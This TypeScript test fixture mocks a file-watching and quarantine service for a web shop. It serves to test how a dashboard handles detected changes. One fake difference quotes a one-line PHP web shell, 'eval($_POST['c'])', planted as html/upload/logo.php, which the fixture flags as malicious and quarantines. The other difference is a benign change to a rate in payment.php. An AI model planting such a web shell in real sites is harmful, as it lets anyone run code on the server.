// Watched files that never were: one tree with a dropped backdoor and a changed program, for tests of the page.

import type { Clock } from "../../src/kernel/index.ts";
import type { FileDesk, Quarantined, WaitingDifference, WatchedTree } from "../../src/watch/index.ts";

export interface LivelyFiles extends FileDesk {
  /** Who did what: "approve owner:花子 制作会社". */
  readonly asked: string[];
  /** From now on what was shown has changed meanwhile. */
  moveOn(): void;
}

const FACTS = {
  type: "file",
  size: 42,
  mode: 0o644,
  uid: 33,
  gid: 33,
  sha256: "a".repeat(64),
  link: null,
} as const;

export function livelyFiles(clock: Clock): LivelyFiles {
  const asked: string[] = [];
  const taken: Quarantined[] = [];
  let waiting = [backdoor(clock.nowMs()), changed(clock.nowMs())];
  let isMovedOn = false;
  const drop = (mark: string): void => void (waiting = waiting.filter((one) => one.mark !== mark));
  return {
    asked,
    moveOn: () => void (isMovedOn = true),
    list: async () => [treeWith(waiting, clock.nowMs())],
    differences: async () => ({
      differences: waiting,
      total: waiting.length,
      unlisted: 0,
      revision: String(waiting.length),
    }),
    baseline: async () => "baseline-there",
    approve: async (_tree, wish, { by, why }) => {
      if (isMovedOn) {
        isMovedOn = false;
        return "moved-on";
      }
      asked.push(`approve ${by} ${why}`);
      if ("marks" in wish) wish.marks.forEach(drop);
      return "done";
    },
    check: () => "running",
    windows: async () => ({ list: [], refused: 0 }),
    addWindow: async ({ fromMs, toMs, who, why }, by) => {
      asked.push(`window ${by} ${who} ${(toMs - fromMs) / 3_600_000} h`);
      return { id: "window_1", fromMs, toMs, who, why, by, atMs: clock.nowMs() };
    },
    quarantine: async (_tree, mark, { by, why }) => {
      asked.push(`quarantine ${by} ${why}`);
      drop(mark);
      const about: Quarantined = {
        id: "quarantine_1",
        path: "/shop/html/upload/logo.php",
        pathBytes: null,
        sha256: FACTS.sha256,
        size: 42,
        mode: 0o644,
        uid: 33,
        gid: 33,
        atimeMs: 0,
        mtimeMs: 0,
        atMs: clock.nowMs(),
        by,
        why,
        restoredAtMs: null,
      };
      taken.push(about);
      return about;
    },
    quarantined: () => taken,
    restore: async () => "taken",
  };
}

function treeWith(waiting: readonly WaitingDifference[], nowMs: number): WatchedTree {
  const malicious = waiting.filter(({ verdict }) => verdict === "malicious").length;
  const clean = waiting.length - malicious;
  return {
    name: "shop",
    path: "/shop",
    hearing: "live",
    state: "approved",
    entries: 3,
    files: 3,
    approval: { atMs: nowMs, by: "owner:花子", why: "開店", count: 3 },
    passAtMs: nowMs,
    fullPassAtMs: nowMs,
    blind: [],
    blindCount: 0,
    waiting: {
      total: waiting.length,
      unlisted: 0,
      byWindow: {},
      byVerdict: { malicious, suspicious: 0, clean },
      byChange: { added: malicious, changed: clean, removed: 0, type: 0, link: 0, owner: 0, mode: 0 },
    },
    revision: String(waiting.length),
    work: null,
    lastWork: null,
  };
}

function backdoor(nowMs: number): WaitingDifference {
  const why = "訪問者が送ったものを、プログラムとして実行します。";
  return {
    mark: "1".repeat(32),
    path: "html/upload/logo.php",
    pathBytes: null,
    change: "added",
    rule: "writable",
    verdict: "malicious",
    isScript: true,
    leadsOut: false,
    before: null,
    after: FACTS,
    reasons: [
      { rule: "file.script-in-uploads", line: 1, why, excerpt: "<?php eval($_POST['c']);", weight: 10 },
    ],
    changedAtMs: nowMs,
    firstSeenMs: nowMs,
    lastCleanMs: nowMs,
    window: null,
    explained: {
      knownAs: null,
      text: { lines: ["@@ -1,0 +1,1 @@", "+<?php eval($_POST['c']);"], cut: false },
    },
  };
}

function changed(nowMs: number): WaitingDifference {
  return {
    mark: "2".repeat(32),
    path: "app/payment.php",
    pathBytes: null,
    change: "changed",
    rule: "watched",
    verdict: "clean",
    isScript: true,
    leadsOut: false,
    before: FACTS,
    after: FACTS,
    reasons: [],
    changedAtMs: nowMs,
    firstSeenMs: nowMs,
    lastCleanMs: nowMs,
    window: null,
    explained: {
      knownAs: { name: "git 1a2b3c4d5e6f", path: "app/payment.php" },
      text: { lines: ["@@ -1,1 +1,1 @@", "-$rate = 0.1;", "+$rate = 0.08;"], cut: false },
    },
  };
}
